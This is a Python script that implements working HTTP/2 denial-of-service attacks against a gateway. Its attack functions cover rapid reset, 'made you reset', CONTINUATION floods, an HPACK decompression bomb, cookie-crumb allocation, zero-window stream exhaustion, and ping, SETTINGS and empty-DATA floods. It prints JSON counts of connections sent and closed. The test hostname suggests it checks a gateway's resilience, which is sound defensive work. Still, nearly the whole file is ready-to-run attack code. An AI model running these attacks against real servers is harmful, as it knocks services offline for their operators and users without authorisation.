"""HTTP/2 as attackers speak it: attack.py SHAPE PORT CA SECONDS [NAME PATH USER:PASSWORD]

Sends frames of one shape, on a new connection whenever the old one is closed, until the time is
over. Prints one JSON line: connections, frames, and how many connections the gateway closed.
"""
import json
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from connection import basic, tls

shape, port, authority, seconds, *app = sys.argv[1:]
port, end = int(port), time.monotonic() + float(seconds)
name, path, credential = app or ("gw.ravelin.test", "/login", "")
# What these hold stays held: nothing may be sent to them.
window = 0 if shape in ("hpack_bomb", "cookie_crumbs", "zero_window", "zero_window_app") else 65_535
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Reference to the newest entry of the dynamic table.
NEWEST = b"\xbe"
ENDS = ["END_HEADERS", "END_STREAM"]


class Closed(Exception):
    pass


class Attack:
    def __init__(self):
        self.stream, self.frames, self.encoder = -1, 0, Encoder()
        self.socket = tls(port, authority, name)
        settings = {SettingsFrame.INITIAL_WINDOW_SIZE: window}
        self.put(PREFACE + SettingsFrame(0, settings=settings).serialize())

    def put(self, data, frames=0):
        """Sends; a gateway that takes no more within a second has stopped us."""
        self.frames += frames
        try:
            self.socket.settimeout(max(0.1, min(1, end - time.monotonic())))
            self.socket.sendall(data)
        except TimeoutError:
            self.hold()
        except OSError as error:
            raise Closed from error

    def hold(self):
        """Keeps what the gateway holds for us, reading nothing."""
        time.sleep(max(0, end - time.monotonic()))
        raise TimeoutError

    def read(self):
        """Takes what is there; raises when the gateway has closed, or the time is over."""
        if time.monotonic() > end:
            raise TimeoutError
        self.socket.settimeout(0)
        try:
            while self.socket.recv(1 << 16):
                pass
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except OSError as error:
            raise Closed from error
        raise Closed

    def next(self):
        self.stream += 2
        return self.stream

    def head(self, *more, path=path, method="GET"):
        return self.encoder.encode([
            (":method", method), (":scheme", "https"), (":authority", f"{name}:{port}"),
            (":path", path), *more])

    def ask(self, *more, path=path, method="GET", flags=ENDS):
        return HeadersFrame(self.next(), self.head(*more, path=path, method=method),
                            flags=flags).serialize()


def rapid_reset(attack):
    while True:
        attack.put(b"".join(
            attack.ask() + RstStreamFrame(attack.stream, error_code=8).serialize()
            for _ in range(50)), 100)
        attack.read()


def made_you_reset(attack):
    """Errors of a stream that have the gateway reset it."""
    while True:
        attack.put(b"".join(
            attack.ask(method="POST", flags=["END_HEADERS"])
            + WindowUpdateFrame(attack.stream, window_increment=2**31 - 1).serialize()
            for _ in range(50)), 100)
        attack.read()


def continuation(attack):
    attack.put(HeadersFrame(attack.next(), attack.head(), flags=["END_STREAM"]).serialize())
    block = attack.encoder.encode([(f"x-{i}", "a" * 100) for i in range(100)])
    while True:
        attack.put(ContinuationFrame(attack.stream, block).serialize(), 1)
        attack.read()


def empty_continuation(attack):
    attack.put(HeadersFrame(attack.next(), attack.head(), flags=["END_STREAM"]).serialize())
    while True:
        attack.put(ContinuationFrame(attack.stream, b"").serialize() * 1000, 1000)
        attack.read()


def hpack_bomb(attack):
    """A field of 4,000 bytes goes into the table, then 12,000 references to it of a byte each."""
    attack.encoder.huffman = False
    while True:
        block = attack.head(("x-bomb", "b" * 4000)) + NEWEST * 12_000
        attack.put(HeadersFrame(attack.next(), block, flags=ENDS).serialize(), 1)
        attack.read()


def cookie_crumbs(attack):
    """Crumbs of a cookie, few enough for a head of 32 KiB, each an allocation for a byte."""
    while True:
        block = attack.head(("cookie", "a=b")) + NEWEST * 800
        attack.put(HeadersFrame(attack.next(), block, flags=ENDS).serialize(), 1)
        attack.read()


def zero_window(attack):
    """Answers that nobody takes, on several connections with as many streams as there may be."""
    several = [attack, *(Attack() for _ in range(3))]
    for one in several:
        for _ in range(250):
            one.put(one.ask(), 1)
    while True:
        for one in several:
            one.read()
        time.sleep(0.05)


def zero_window_app(attack):
    """The same with an app's large file, after logging in."""
    login = ("authorization", basic(credential))
    for _ in range(250):
        attack.put(attack.ask(login, path=path), 1)
    while True:
        attack.read()
        time.sleep(0.05)


def pings(attack):
    while time.monotonic() < end:
        attack.put(PingFrame(0, opaque_data=b"01234567").serialize() * 1000, 1000)


def settings(attack):
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    while time.monotonic() < end:
        attack.put(frame * 1000, 1000)


def empty_data(attack):
    attack.put(attack.ask(method="POST", flags=["END_HEADERS"]))
    while True:
        attack.put(DataFrame(attack.stream, b"").serialize() * 1000, 1000)
        attack.read()


connections = frames = closed = 0
while time.monotonic() < end:
    attack = Attack()
    connections += 1
    try:
        globals()[shape](attack)
    except Closed:
        closed += 1
    except TimeoutError:
        pass
    frames += attack.frames
print(json.dumps({"connections": connections, "frames": frames, "closed": closed}))
